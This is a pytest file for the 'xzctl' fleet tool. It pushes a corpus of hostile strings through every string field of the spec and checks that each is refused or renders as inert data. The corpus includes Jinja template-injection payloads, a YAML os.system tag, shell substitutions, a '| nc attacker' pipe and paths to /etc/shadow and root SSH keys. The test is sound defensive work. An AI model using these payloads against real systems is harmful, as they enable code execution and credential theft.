"""The hostile-input corpus: every string field of the spec, every hostile value, refused or inert.

The fields come from the pydantic model itself (a new string field is in the corpus the day it is
added) and must each be listed in `xzctl.spec.sinks.FIELDS`. Each (field, value) goes through the
spec loader: it is refused with the field's path (exit 2 in the CLI), or it loads unchanged and then
every output (Jinja renders, the Ansible inventory, alert rules) parses to the same structure as the
baseline, with the value arriving as data: equal, inside a leaf, never as code.
"""

from __future__ import annotations

import copy
import os
import types
import typing
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from typing import Any, Union, get_args, get_origin

import pytest
import yaml
from pydantic import BaseModel

from xzctl.alerts import rules_file
from xzctl.bootstrap.inventory import inventory_yaml
from xzctl.errors import FleetSpecError
from xzctl.render.node import render_node_documents
from xzctl.spec import Fleet, bundled_example_path, load_fleet
from xzctl.spec.load import build_fleet, format_path
from xzctl.spec.sinks import FIELDS, Sink, Unsafe, go_template_text, read_ansible_yaml
from xzctl.spec.validate import cross_checks

LOADER = getattr(yaml, "CSafeLoader", yaml.SafeLoader)  # libyaml when present: same YAML, 10x faster
PWNED = "/tmp/xzctl-corpus-pwned"
HOSTILE: list[str] = [
    # Jinja
    "{{ 7*7 }}",
    "{% for x in range(3) %}x{% endfor %}",
    "{# comment #}",
    f"{{{{ lookup('pipe', 'touch {PWNED}') }}}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "x{{",
    # Go templates (Prometheus annotations)
    '{{ with query "up" }}{{ . }}{{ end }}',
    "{{ .Broken",
    "}}{{",
    '{{ printf "%s" "x" }}',
    # YAML: tags, anchors, structure, scalars that change type
    f"!!python/object/apply:os.system ['touch {PWNED}']",
    "&anchor value",
    "*alias",
    "key: value",
    "- item",
    "? complex",
    "'single",
    '"double',
    "# comment",
    "null",
    "true",
    "0x1F",
    "1e400",
    "",
    # line breaks and invisible characters
    "a\nb: c",
    "a\rb",
    "a\u2028b",
    "a\u2029b",
    "a\x00b",
    "a\x85b",
    "\ufeffbom",
    "a\tb",
    "\u202etxt.exe",
    "x" * 100_000,
    # shell
    f"$(touch {PWNED})",
    f"`touch {PWNED}`",
    f"; touch {PWNED}",
    "| nc attacker 1",
    "&& reboot",
    "${IFS}",
    "a'b",
    'a"b',
    "a\\b",
    # paths
    "../../etc/passwd",
    "/etc/shadow",
    "..",
    "~root/.ssh/id_rsa",
    # plausible values that must load and render unchanged
    "RTX 4090 (24 GB)",
    "模型-1",
]


# --- the model's string fields -----------------------------------------------------------------


def _leaves(tp: Any) -> Iterator[Any]:
    origin = get_origin(tp)
    if origin is typing.Annotated:
        yield from _leaves(get_args(tp)[0])
    elif origin in (Union, types.UnionType, list, dict):
        for arg in get_args(tp):
            yield from _leaves(arg)
    else:
        yield tp


@cache
def string_fields() -> dict[str, tuple[type[BaseModel], str]]:
    """'Model.field' (or 'Model.field[key]' for mapping keys) -> (model, field name), for every str."""
    found: dict[str, tuple[type[BaseModel], str]] = {}
    todo: list[type[BaseModel]] = [Fleet]
    seen: set[type[BaseModel]] = set()
    while todo:
        model = todo.pop()
        if model in seen:
            continue
        seen.add(model)
        for name, info in model.model_fields.items():
            if get_origin(info.annotation) is dict and str in _leaves(get_args(info.annotation)[0]):
                found[f"{model.__name__}.{name}[key]"] = (model, name)
            for leaf in _leaves(info.annotation):
                if leaf is str and get_origin(info.annotation) is not dict:
                    found[f"{model.__name__}.{name}"] = (model, name)
                elif isinstance(leaf, type) and issubclass(leaf, BaseModel):
                    todo.append(leaf)
    return found


def test_every_string_field_of_the_spec_is_in_the_sink_table() -> None:
    assert set(string_fields()) == set(FIELDS), "add the new field to xzctl.spec.sinks.FIELDS (and here nothing)"


# --- where each field sits in a spec document ----------------------------------------------------


@cache
def example() -> tuple[Fleet, dict[str, Any]]:
    """The bundled example cut to one region of one node (validation time grows with nodes), expanded."""
    full = load_fleet(bundled_example_path()).fleet.model_dump(mode="json", by_alias=True)
    region, spec = next(iter(full["regions"].items()))
    # The example relies on the default chart sources: give the corpus one of each field to reach.
    chart = {"source": "local", "path": "charts/kube-prometheus-stack", "repository": "https://charts.example.com"}
    kubernetes = {**spec["kubernetes"], "charts": {"monitoring": chart | {"version": "65.1.1"}}}
    # The example runs no coordinator (a site may bring its own): give the node one, so its fields are reached too;
    # its 2 requested cores take one server process's.
    node = spec["edge_nodes"][0]
    coordinator = {"image": "registry.example.com/edge-coordinator:1.0.0", "replicas": 1}
    server = {**node["services"]["xiaozhi_server"], "processes": 3}
    node = {**node, "services": {**node["services"], "coordinator": coordinator, "xiaozhi_server": server}}
    doc = {**full, "regions": {region: {**spec, "kubernetes": kubernetes, "edge_nodes": [node]}}}
    return build_fleet(doc, {}, "fleet.yaml"), doc


@cache
def instance_paths() -> dict[type[BaseModel], tuple[str | int, ...]]:
    """The document path of the first instance of each model class in the example fleet."""
    found: dict[type[BaseModel], tuple[str | int, ...]] = {}

    def walk(obj: Any, path: tuple[str | int, ...]) -> None:
        if isinstance(obj, BaseModel):
            found.setdefault(type(obj), path)
            for name, info in type(obj).model_fields.items():
                walk(getattr(obj, name), (*path, info.alias or name))
        elif isinstance(obj, dict):
            for key, value in obj.items():
                walk(value, (*path, key))
        elif isinstance(obj, list):  # every item: a list may hold several kinds (receivers)
            for i, item in enumerate(obj):
                walk(item, (*path, i))

    fleet = example()[0]
    # Nodes carry their profile's sections expanded: edit those, not the profile (which only feeds the loader).
    walk(fleet.model_copy(update={"node_profiles": {}}), ())
    walk(fleet, ())
    return found


def _at(doc: Any, path: tuple[str | int, ...]) -> Any:
    for part in path:
        doc = doc[part]
    return doc


@dataclass(frozen=True)
class Case:
    field: str
    value: str

    def path(self) -> tuple[str | int, ...]:
        model, name = string_fields()[self.field]
        return (*instance_paths()[model], model.model_fields[name].alias or name)

    def document(self) -> dict[str, Any]:
        """The example document with the value in place; only the containers on the path are copied."""
        doc = dict(example()[1])
        *parents, last = self.path()
        at: Any = doc
        for part in parents:
            at[part] = copy.copy(at[part])
            at = at[part]
        if self.field.endswith("[key]"):
            mapping = at[last] = dict(at[last])
            mapping[self.value] = mapping.pop(next(iter(mapping)))
        else:
            at[last] = self.value
        return doc


CASES = [Case(f, v) for f in sorted(FIELDS) for v in HOSTILE]


def test_the_corpus_is_big_enough() -> None:
    assert len(HOSTILE) >= 40 and len(FIELDS) >= 20 and len(CASES) >= 300


# --- outputs, parsed -----------------------------------------------------------------------------


def _outputs(fleet: Fleet) -> dict[str, Any]:
    """Every template-language output of the first region (where the corpus edits), parsed back.

    Jinja renders and the Ansible inventory of that region, the alert rules; each read with that
    output's own reader. Other regions render the same code with the same global values.
    """
    region = next(iter(fleet.regions))
    out: dict[str, Any] = {
        "rules": rules_file(fleet),  # plain data: the annotation strings are what Prometheus templates
        f"inventory/{region}": read_ansible_yaml(inventory_yaml(fleet, region)),
    }
    node = fleet.regions[region].edge_nodes[0]
    for name, text in render_node_documents(fleet, node).files().items():
        out[f"render/{node.id}/{name}"] = yaml.load(text, Loader=LOADER)
    return out


@cache
def baseline() -> dict[str, Any]:
    return _outputs(example()[0])


def _diff(base: Any, new: Any, where: str, rename: tuple[str, str]) -> Iterator[tuple[str, Any, Any]]:
    """Leaves that differ or were added; a structural difference (lost keys, lengths, types) is one.

    `rename` (old, value): a key holding the new value stands for the baseline key holding the old one.
    """
    old, value = rename
    if isinstance(base, dict) and isinstance(new, dict):
        back = {(k.replace(value, old) if value and isinstance(k, str) else k): k for k in new}
        if base.keys() <= back.keys():
            for key, new_key in back.items():
                yield from _diff(base.get(key), new[new_key], f"{where}.{new_key}", rename)
            return
    if isinstance(base, list) and isinstance(new, list) and len(base) == len(new):
        for i, (b, n) in enumerate(zip(base, new, strict=True)):
            yield from _diff(b, n, f"{where}[{i}]", rename)
    elif base != new:
        yield where, base, new


def _unsafe_everywhere(doc: Any) -> bool:
    if isinstance(doc, dict):
        return all(_unsafe_everywhere(v) for v in doc.values())
    if isinstance(doc, list):
        return all(_unsafe_everywhere(v) for v in doc)
    return not isinstance(doc, str) or isinstance(doc, Unsafe)


def _original(case: Case) -> str:
    """The example's value at the case's place (for a mapping key: the first key)."""
    at = _at(example()[1], case.path())
    return str(next(iter(at))) if case.field.endswith("[key]") else str(at)


@pytest.mark.parametrize("field", sorted(FIELDS))
def test_hostile_values_are_refused_with_their_path_or_inert(field: str) -> None:
    failures = {}
    for value in HOSTILE:
        case = Case(field, value)
        try:
            _check(case)
        except AssertionError as exc:
            failures[value[:40]] = str(exc)[:300]
    assert not failures
    assert not os.path.exists(PWNED)  # nothing ran


def _check(case: Case) -> None:
    where = format_path(case.path())
    try:
        fleet = build_fleet(case.document(), {}, "fleet.yaml")
        errors = [p for p in cross_checks(fleet, file="fleet.yaml", lines={}) if p.severity == "error"]
        if errors:
            raise FleetSpecError(errors)
    except FleetSpecError as refused:
        # The problem names the field, or the object it sits in (a rule across its fields).
        paths = [p.path for p in refused.problems]
        assert any(p and (p.startswith(where) or where.startswith(p)) for p in paths), paths
        assert all(p.render().isprintable() and len(p.render()) < 1000 for p in refused.problems)
        return
    loaded = _at(fleet.model_dump(mode="json", by_alias=True), case.path())
    outputs = _outputs(fleet)
    if not case.field.endswith("[key]") and loaded != case.value:
        # Filled by the loader from the enclosing key (region names): the value was dropped, not used.
        assert loaded == _original(case) and outputs == baseline()
        return
    # Accepted: every output keeps its structure and carries the value as data.
    old = _original(case)
    renamed = {k.replace(old, case.value) if case.value else k: k for k in baseline()}
    assert outputs.keys() == renamed.keys()
    literal = go_template_text(case.value)
    changed = []
    for key, parsed in outputs.items():
        if key.startswith("inventory/"):
            assert _unsafe_everywhere(parsed), key
        for at, _, new in _diff(baseline()[renamed[key]], parsed, key, (old, case.value)):
            changed.append(at)
            assert isinstance(new, str), f"{at}: structure changed ({new!r})"
            assert case.value in new or literal in new, f"{at}: {new!r} does not carry the value"
    if FIELDS[case.field] & {Sink.ANSIBLE, Sink.JINJA}:
        assert changed, f"{case.field} is listed as reaching Ansible or Jinja but changed no output"
